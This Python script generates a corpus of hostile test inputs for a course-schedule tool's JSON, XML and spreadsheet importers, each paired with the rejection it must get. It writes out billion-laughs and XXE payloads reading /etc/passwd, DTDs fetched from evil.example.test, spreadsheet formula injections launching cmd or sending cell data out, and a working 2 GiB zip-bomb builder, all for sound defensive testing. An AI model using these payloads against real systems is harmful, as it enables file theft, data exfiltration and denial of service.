"""Hostile inputs for ``tests/test_bad_input_corpus.py``: what attackers and accidents send.

Small, fixed files are committed next to this script (``python tests/corpus/make_corpus.py``
rewrites them). Big files (a 2 GiB zip bomb, sparse files claiming 100 MB and 4 GB, a 10 MB
title) and files built on a live course's item ids are generated at test time into a
temp folder by :func:`build`, so the repository stays small.

Each :class:`Case` says what kind of input it is (``schedule``: a JSON/XML schedules
document for ``codec.parse``/``schedctl put|diff|restore``; ``sheet``: a workbook or CSV
for the spreadsheet import) and what must happen: ``rejected`` (a clear error naming the
problem, exit code 1) or ``harmless`` (accepted, but nothing reaches the server).
"""

from __future__ import annotations

import copy
import json
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
GIB = 1 << 30
TEN_MB = 10 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    """One hostile input and the answer it must get."""

    name: str  # file name; the suffix is part of the attack (renamed files)
    kind: str  # "schedule" or "sheet"
    outcome: str  # "rejected" or "harmless"
    message: str  # a fragment every rejection message must contain ("" for harmless)
    note: str  # what the input is, for the report table


def _case(name: str, message: str, note: str) -> Case:
    """A case; the suffix tells the kind, an empty ``message`` means harmless."""
    kind = "schedule" if name.endswith((".json", ".xml")) else "sheet"
    return Case(name, kind, "rejected" if message else "harmless", message, note)


# --------------------------------------------------------------------------- small, fixed

_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE itemSchedules [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n<itemSchedules><itemSchedule><itemId>1</itemId><itemTitle>&lol9;</itemTitle>"
    "</itemSchedule></itemSchedules>\n"
)
_XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE itemSchedules [\n'
    ' <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
    "<itemSchedules><itemSchedule><itemId>1</itemId><itemTitle>&xxe;</itemTitle>"
    "</itemSchedule></itemSchedules>\n"
)
_EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE itemSchedules SYSTEM "http://evil.example.test/schedules.dtd">\n'
    "<itemSchedules><itemSchedule><itemId>1</itemId></itemSchedule></itemSchedules>\n"
)
_PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE itemSchedules [\n'
    ' <!ENTITY % remote SYSTEM "http://evil.example.test/x.dtd">\n %remote;\n]>\n'
    "<itemSchedules/>\n"
)
_HTML_TABLE = (
    "<html><body><table><tr><td>Item ID</td><td>Start</td></tr>"
    "<tr><td>1</td><td>2011-03-08 23:59</td></tr></table></body></html>\n"
)

#: file name -> bytes: committed in tests/corpus/.
SMALL: dict[str, bytes] = {
    "billion_laughs.xml": _LAUGHS.encode(),
    "xxe_file_passwd.xml": _XXE.encode(),
    "external_dtd.xml": _EXTERNAL_DTD.encode(),
    "parameter_entity.xml": _PARAMETER_ENTITY.encode(),
    "not_json.json": b"this is not JSON at all\n",
    "empty.json": b"",
    "binary_garbage.json": bytes(range(256)) * 4,
    "wrong_root.json": b'{"items": [{"itemId": 1}]}\n',
    "items_not_a_list.json": b'{"itemSchedules": "all of them"}\n',
    "id_not_a_number.json": b'{"itemSchedules": [{"itemId": "DROP TABLE"}]}\n',
    "id_nan.json": b'{"itemSchedules": [{"itemId": NaN}]}\n',
    "id_huge_integer.json": b'{"itemSchedules": [{"itemId": ' + b"9" * 5000 + b"}]}\n",
    "flag_not_boolean.json": (
        b'{"itemSchedules": [{"itemId": 1, "schedule": {"accessSchedule": '
        b'{"isInherited": "maybe"}}}]}\n'
    ),
    "schedule_is_a_list.json": b'{"itemSchedules": [{"itemId": 1, "schedule": [1, 2]}]}\n',
    "date_year_10000.json": (
        b'{"itemSchedules": [{"itemId": 1, "schedule": {"accessSchedule": '
        b'{"startDateTime": "10000-01-01T00:00:00Z"}}}]}\n'
    ),
    "date_february_30.json": (
        b'{"itemSchedules": [{"itemId": 1, "schedule": {"accessSchedule": '
        b'{"endDateTime": "2011-02-30T23:59:00Z"}}}]}\n'
    ),
    "date_overflows_utc.json": (
        b'{"itemSchedules": [{"itemId": 1, "schedule": {"accessSchedule": '
        b'{"endDateTime": "9999-12-31T23:59:59-01:00"}}}]}\n'
    ),
    "date_is_a_number.json": (
        b'{"itemSchedules": [{"itemId": 1, "schedule": {"dueDate": 1299567540}}]}\n'
    ),
    "not_xml.xml": b"<itemSchedules><itemSchedule><itemId>1</itemSchedule>\n",
    "renamed_csv.xlsx": b"Item ID,Title,Start\n1,Unit 1,2011-03-08 23:59\n",
    "renamed_html.xlsx": _HTML_TABLE.encode(),
    "truncated_zip.xlsx": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40,
    "binary_garbage.csv": bytes(range(256)) * 4,
    "utf16_without_bom.csv": "Item ID,Title\n1,Unit 1\n".encode("utf-16-le"),
}

#: The committed cases (the files above) and what each must get.
SMALL_CASES = [
    _case("billion_laughs.xml", "DTD", "XML billion laughs"),
    _case("xxe_file_passwd.xml", "DTD", "XML external entity file:///etc/passwd"),
    _case("external_dtd.xml", "DTD", "XML with an external DTD"),
    _case("parameter_entity.xml", "DTD", "XML parameter entity (remote DTD)"),
    _case("not_xml.xml", "not well-formed XML", "malformed XML"),
    _case("not_json.json", "not valid JSON", "text that is not JSON"),
    _case("empty.json", "not valid JSON", "an empty file"),
    _case("binary_garbage.json", "not valid JSON", "binary garbage"),
    _case("wrong_root.json", '"itemSchedules"', "JSON of another shape"),
    _case("items_not_a_list.json", "must be a list", "wrong type: items"),
    _case("id_not_a_number.json", "itemId must be a number", "wrong type: id"),
    _case("id_nan.json", "itemId must be a number", "NaN as id"),
    _case("id_huge_integer.json", "not valid JSON", "5000-digit id"),
    _case("flag_not_boolean.json", "true or false", "wrong type: flag"),
    _case("schedule_is_a_list.json", "must be an object", "wrong type: schedule"),
    _case("date_year_10000.json", "not a timestamp", "year 10000"),
    _case("date_february_30.json", "not a real date", "February 30"),
    _case("date_overflows_utc.json", "out of the supported date range", "9999-12-31 -01:00"),
    _case("date_is_a_number.json", "expected a timestamp", "epoch number as date"),
    _case("renamed_csv.xlsx", "is not an Excel workbook", "CSV renamed .xlsx"),
    _case("renamed_html.xlsx", "is not an Excel workbook", "HTML renamed .xlsx"),
    _case("truncated_zip.xlsx", "is not a valid .xlsx file", "cut-off zip"),
    _case("binary_garbage.csv", "is not a text file", "binary garbage .csv"),
    _case("utf16_without_bom.csv", "UTF-16 without a byte-order mark", "CSV in UTF-16 without BOM"),
]


# --------------------------------------------------------------------------- generated

#: Cases generated at test time by :func:`build` (big, or built on the course's ids).
GENERATED_CASES = [
    _case("truncated.json", "not valid JSON", "the course's JSON cut in half"),
    _case("deep_nesting.json", "nested too deeply", "JSON nested 100,000 deep"),
    _case("deep_nesting.xml", "nested too deeply", "XML nested 100,000 deep"),
    _case("claims_100mb.json", "larger than 64 MB", "a 100 MB JSON file"),
    _case("claims_4gb.json", "larger than 64 MB", "a 4 GB (sparse) JSON file"),
    _case("duplicate_ids.json", "appears 2 times", "an item id twice"),
    _case("year_1911.json", "1911", "a date in 1911 (typo)"),
    _case("end_before_start.json", "before it starts", "end before start"),
    _case("title_10mb.json", "", "a 10 MB title (titles are never sent)"),
    _case(
        "title_10mb_bad_dates.json",
        "before it starts",
        "a 10 MB title on an item ending before it starts",
    ),
    _case("formula_titles.json", "", "=HYPERLINK/+cmd/@SUM titles"),
    _case("zip_bomb.xlsx", "zip bomb", "xlsx whose sheet unpacks to 2 GiB"),
    _case("claims_4gb.xlsx", "MB are refused", "a 4 GB (sparse) .xlsx"),
    _case(
        "laughs_inside.xlsx", "cannot be read as an Excel workbook", "billion laughs inside a sheet"
    ),
    _case(
        "xxe_inside.xlsx", "cannot be read as an Excel workbook", "external entity inside a sheet"
    ),
    _case("formula_date.xlsx", "formula", "a formula in a date cell"),
    _case("bad_crc.xlsx", "is not a valid .xlsx file", "a workbook with a damaged sheet (CRC)"),
    _case("wide_row.xlsx", "more than 1,000 cells", "1,000,000 cells in one row (0.8 MB file)"),
    _case("many_cells.xlsx", "more than 2,500,000 cells", "2,600,000 cells in 2,600 rows"),
    _case("duplicate_rows.csv", "appears twice", "an item id in two rows"),
    _case("date_year_2201.csv", "2201", "a date in 2201"),
    _case("date_garbage.csv", "not a date", "text in a date cell"),
    _case("title_10mb.csv", "not a readable CSV file", "a 10 MB title cell"),
    _case("wide_row.csv", "has more than 1,000 cells", "a CSV row of 1,000,000 cells"),
    _case("many_cells.csv", "has more than 2,500,000 cells", "a 9 MB CSV of 3 million cells"),
    _case("shift_jis.csv", "not UTF-8 or Windows-1252", "CSV in Shift-JIS"),
    _case("latin1.csv", "", "CSV in Latin-1 (read as Windows-1252, noted)"),
    _case("formula_titles.csv", "", "=HYPERLINK/+cmd/@SUM title cells"),
]

FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example.test/?"&A1,"Click for grades")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
]


def _entries(document: dict[str, Any]) -> list[dict[str, Any]]:
    return document["itemSchedules"]  # type: ignore[no-any-return]


def _explicit(document: dict[str, Any]) -> dict[str, Any]:
    """The first entry with its own start and end."""
    for entry in _entries(document):
        access = entry["schedule"]["accessSchedule"]
        if not access.get("isInherited") and "startDateTime" in access and "endDateTime" in access:
            return entry
    raise ValueError("the course has no item with its own dates")


def _mutated(document: dict[str, Any], change: Callable[[dict[str, Any]], None]) -> bytes:
    changed = copy.deepcopy(document)
    change(changed)
    return json.dumps(changed).encode()


def _sparse(path: Path, head: bytes, size: int) -> None:
    """A file of ``size`` bytes that takes no disk space past ``head``."""
    with path.open("wb") as handle:
        handle.write(head)
        handle.truncate(size)


def _schedule_files(folder: Path, document: dict[str, Any]) -> None:
    whole = json.dumps(document).encode()
    (folder / "truncated.json").write_bytes(whole[: len(whole) // 2])
    depth = 100_000
    (folder / "deep_nesting.json").write_bytes(
        b'{"itemSchedules": ' + b"[" * depth + b"]" * depth + b"}"
    )
    (folder / "deep_nesting.xml").write_bytes(
        b"<itemSchedules>" + b"<a>" * depth + b"</a>" * depth + b"</itemSchedules>"
    )
    _sparse(folder / "claims_100mb.json", b'{"itemSchedules": [', 100 * 1024 * 1024)
    _sparse(folder / "claims_4gb.json", b'{"itemSchedules": [', 4 * GIB)

    def duplicate(doc: dict[str, Any]) -> None:
        _entries(doc).append(copy.deepcopy(_explicit(doc)))

    def year_1911(doc: dict[str, Any]) -> None:
        _explicit(doc)["schedule"]["accessSchedule"]["startDateTime"] = "1911-03-01T07:00:00Z"

    def end_before_start(doc: dict[str, Any]) -> None:
        access = _explicit(doc)["schedule"]["accessSchedule"]
        access["endDateTime"] = "2001-01-01T00:00:00Z"

    def huge_title(doc: dict[str, Any]) -> None:
        _explicit(doc)["itemTitle"] = "Week 1 " + "x" * TEN_MB

    def huge_title_bad_dates(doc: dict[str, Any]) -> None:
        huge_title(doc)
        end_before_start(doc)

    def formula_titles(doc: dict[str, Any]) -> None:
        for entry, title in zip(_entries(doc), FORMULA_TITLES, strict=False):
            entry["itemTitle"] = title

    for name, change in (
        ("duplicate_ids.json", duplicate),
        ("year_1911.json", year_1911),
        ("end_before_start.json", end_before_start),
        ("title_10mb.json", huge_title),
        ("title_10mb_bad_dates.json", huge_title_bad_dates),
        ("formula_titles.json", formula_titles),
    ):
        (folder / name).write_bytes(_mutated(document, change))


# --------------------------------------------------------------------------- zip bomb


def _zip(path: Path, parts: list[tuple[str, bytes, int, int]]) -> None:
    """Write a zip from ``(name, deflated data, crc, unpacked size)`` (no zip64 needed)."""
    out = bytearray()
    central = bytearray()
    for name, data, crc, size in parts:
        raw = name.encode()
        offset = len(out)
        # version 2.0, no flags, deflate, 1980-01-01 00:00, sizes, name, no extra field
        fields = (0, 8, 0, 0x21, crc, len(data), size, len(raw), 0)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, *fields) + raw + data
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, *fields,
                               0, 0, 0, 0, offset) + raw  # fmt: skip
    count = len(parts)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(), zlib.crc32(data), len(data)


def zip_bomb(path: Path, template: Path, unpacked: int = 2 * GIB) -> None:
    """A copy of the workbook ``template`` whose first sheet unpacks to ``unpacked`` bytes.

    The filler is blank space between XML elements (legal), deflated once per MiB after
    a full flush, so every MiB deflates to the same ~1 kB: 2 GiB costs 2 MB on disk and
    no time to make.
    """
    import zipfile

    with zipfile.ZipFile(template) as book:
        originals = {info.filename: book.read(info.filename) for info in book.infolist()}
    sheet = originals["xl/worksheets/sheet1.xml"]
    cut = sheet.index(b"<sheetData>") + len(b"<sheetData>")
    head, tail, chunk = sheet[:cut], sheet[cut:], b" " * (1 << 20)
    repeats = (unpacked - len(head) - len(tail)) // len(chunk)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(tail) + packer.flush()
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + repeats * len(chunk) + len(tail)
    parts = []
    for name, data in originals.items():
        if name == "xl/worksheets/sheet1.xml":
            parts.append((name, first + block * repeats + last, crc, size))
        else:
            parts.append((name, *_deflated(data)))
    _zip(path, parts)


# --------------------------------------------------------------------------- workbooks


def _rezip(source: Path, target: Path, part: str, change: Callable[[bytes], bytes]) -> None:
    import zipfile

    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info.filename)
            new.writestr(info.filename, change(data) if info.filename == part else data)


def _with_doctype(doctype: str, entity: str) -> Callable[[bytes], bytes]:
    def change(sheet: bytes) -> bytes:
        text = sheet.decode()
        start = text.index("<worksheet")
        # Put the entity into the first text cell.
        text = text[:start] + doctype + text[start:]
        return text.replace("<t>", f"<t>{entity}", 1).encode()

    return change


def _sheet_files(folder: Path, workbook: Path, ids: list[int]) -> None:
    """Spreadsheets: ``workbook`` is the course exported by the app (untouched)."""
    zip_bomb(folder / "zip_bomb.xlsx", workbook)
    _sparse(folder / "claims_4gb.xlsx", b"PK\x03\x04", 4 * GIB)
    laughs = "<!DOCTYPE worksheet [" + _LAUGHS.split("[", 1)[1].split("]>", 1)[0] + "]>"
    _rezip(workbook, folder / "laughs_inside.xlsx", "xl/worksheets/sheet1.xml",
           _with_doctype(laughs, "&lol9;"))  # fmt: skip
    xxe = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    _rezip(workbook, folder / "xxe_inside.xlsx", "xl/worksheets/sheet1.xml",
           _with_doctype(xxe, "&xxe;"))  # fmt: skip
    _formula_in_date(workbook, folder / "formula_date.xlsx")
    _with_cells(workbook, folder / "wide_row.xlsx", 1, 1_000_000)
    _damaged(workbook, folder / "bad_crc.xlsx")
    _with_cells(workbook, folder / "many_cells.xlsx", 2_600, 1_000)

    first, second = ids[0], ids[1]
    csv = {
        "duplicate_rows.csv": f"Item ID,Start\n{first},\n{second},\n{first},\n",
        "date_year_2201.csv": f"Item ID,End\n{first},2201-03-08 23:59\n",
        "date_garbage.csv": f"Item ID,Start\n{first},next Tuesday-ish\n",
        "title_10mb.csv": f'Item ID,Title\n{first},"{"x" * TEN_MB}"\n',
    }
    for name, text in csv.items():
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "wide_row.csv").write_text(f"Item ID,Start\n{first}" + ",1" * 1_000_000 + "\n")
    line = ",".join(["12"] * 500) + "\n"
    (folder / "many_cells.csv").write_text("Item ID,Start\n" + line * 6_000)
    (folder / "shift_jis.csv").write_bytes(
        f"Item ID,Title\n{first},第1回：授業\n".encode("shift_jis")
    )
    (folder / "latin1.csv").write_bytes(
        f"Item ID,Title\n{first},Übung für Anfänger\n".encode("latin-1")
    )
    titles = "".join(f'{item},"{title.replace(chr(34), chr(34) * 2)}"\n'
                     for item, title in zip(ids, FORMULA_TITLES, strict=False))  # fmt: skip
    (folder / "formula_titles.csv").write_text("Item ID,Title\n" + titles, encoding="utf-8")


def _with_cells(source: Path, target: Path, rows: int, per_row: int) -> None:
    """A copy of the workbook whose first sheet holds ``rows`` x ``per_row`` numbers.

    Random digits keep the deflate ratio low, so the zip-bomb check lets it through and
    the cell count is what must refuse it.
    """
    import random
    import zipfile

    digits = random.Random(8).choices("0123456789", k=rows * per_row)
    cells = [f"<c><v>{digit}</v></c>" for digit in digits]
    body = "".join(
        f'<row r="{r + 1}">' + "".join(cells[r * per_row : (r + 1) * per_row]) + "</row>"
        for r in range(rows)
    )

    def change(sheet: bytes) -> bytes:
        text = sheet.decode()
        start = text.index("<sheetData>") + len("<sheetData>")
        return (text[:start] + body + text[text.index("</sheetData>") :]).encode()

    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info.filename)
            new.writestr(
                info.filename, change(data) if info.filename.endswith("sheet1.xml") else data
            )


def _damaged(source: Path, target: Path) -> None:
    """A copy whose first sheet has one byte changed: its CRC no longer matches."""
    import zipfile

    data = bytearray(source.read_bytes())
    with zipfile.ZipFile(source) as book:
        info = book.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0x01
    target.write_bytes(bytes(data))


def _formula_in_date(source: Path, target: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(source)
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    column = next(i for i, v in enumerate(header, 1) if str(v).startswith("Start"))
    sheet.cell(row=2, column=column, value='=NOW()+WEBSERVICE("http://evil.example.test/")')
    book.save(target)


def build(folder: Path, document: dict[str, Any], workbook: Path) -> None:
    """Write every generated case into ``folder``.

    Args:
        folder: an empty temp folder.
        document: the course's item schedules as the server's JSON document.
        workbook: the same course exported by the app (``.xlsx``).
    """
    folder.mkdir(parents=True, exist_ok=True)
    _schedule_files(folder, document)
    _sheet_files(folder, workbook, [int(e["itemId"]) for e in _entries(document)])


def write_small(folder: Path = HERE) -> None:
    """(Re)write the committed small files."""
    for name, data in SMALL.items():
        (folder / name).write_bytes(data)


if __name__ == "__main__":
    write_small()
    print(f"wrote {len(SMALL)} files to {HERE}")
